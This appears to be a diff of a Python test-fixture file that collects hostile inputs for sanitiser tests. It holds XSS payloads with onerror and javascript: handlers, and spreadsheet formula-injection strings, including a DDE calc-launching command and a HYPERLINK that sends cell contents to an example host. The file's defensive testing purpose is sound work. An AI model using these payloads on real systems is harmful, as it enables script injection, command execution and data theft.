@@ -41,7 +41,7 @@ _MARKUP = [
     '<p id="main" name="form" class="skip-link" data-autosave="{hit}" data-focus>x</p>',
     '<a href="javascript:window.__hit=1" target="_blank">x</a>',
     "<!-- --><![CDATA[<b>]]><?php echo 1 ?>",
-    "<noscript><p title=\"</noscript><img src=x onerror=window.__hit=1>\"></noscript>",
+    '<noscript><p title="</noscript><img src=x onerror=window.__hit=1>"></noscript>',
 ]
 
 _MARKDOWN = [
@@ -86,7 +86,8 @@ ARABIC = "قالت اللجنة إن الشباب يحتاجون إلى مساح
 EVERYTHING = "\n\n".join((ARABIC, *PAYLOADS, ARABIC))
 """All of them in one text, with Arabic around."""
 
-_STARTS = ["=", "+", "-", "@", "|", "%", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", " =", "\u00a0=", "\u200b=", "\ufeff=", "\u202e="]  # fmt: skip
+_STARTS = ("=", "+", "-", "@", "|", "%", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠")
+_BEFORE = (" =", "\u00a0=", "\u200b=", "\ufeff=", "\u202e=")
 _FORMULAS = [
     'HYPERLINK("https://example.org/?"&A1,"open")',
     "cmd|' /C calc'!A0",
@@ -101,7 +102,7 @@ _FORMULAS = [
     "",
 ]
 FORMULAS: tuple[str, ...] = (
-    *(f"{start}{formula}" for start, formula in product(_STARTS, _FORMULAS)),
+    *(f"{start}{formula}" for start, formula in product((*_STARTS, *_BEFORE), _FORMULAS)),
     "https://example.org/",
     "mailto:x@example.org",
     "internal:Sheet1!A1",
